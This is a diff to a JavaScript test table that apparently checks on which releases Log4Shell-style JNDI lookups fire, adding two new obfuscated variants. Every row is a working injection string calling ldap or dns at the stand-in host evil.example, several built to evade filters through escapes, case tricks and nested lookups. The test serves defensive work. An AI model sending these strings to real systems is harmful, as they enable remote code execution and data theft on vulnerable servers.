@@ -12,6 +12,13 @@ test.each([
   ['with a dotless i', '${jnd${upper:ı}:ldap://evil.example:1389/a}', ['C'], target],
   ['with an escape that a value undoes', '${x:-$${jndi:ldap://evil.example:1389/a}}', ['B', 'C'], target],
   ['with an escape that the next pass undoes', 'a ${x} $${jndi:ldap://evil.example:1389/a}', ['A', 'B', 'C'], target],
+  [
+    'put together by a pass for the next one',
+    '${::-$}{j${::-n}di:ldap://evil.example:1389/a} ${x}',
+    ['A', 'B', 'C'],
+    target,
+  ],
+  ['put together with lower', '${lower:$}{j${lower:n}di:ldap://evil.example:1389/a} ${', ['C'], target],
   ['to a domain', '${jndi:ldap:///dc=evil,dc=example}', ['A', 'B', 'C'], 'ldap:///dc=evil,dc=example'],
   ['to the resolver', '${jndi:dns:evil.example}', ['A', 'B', 'C'], 'dns:evil.example'],
 ])('what fires says on which releases: %s', (_case, text, firesOn, name) => {
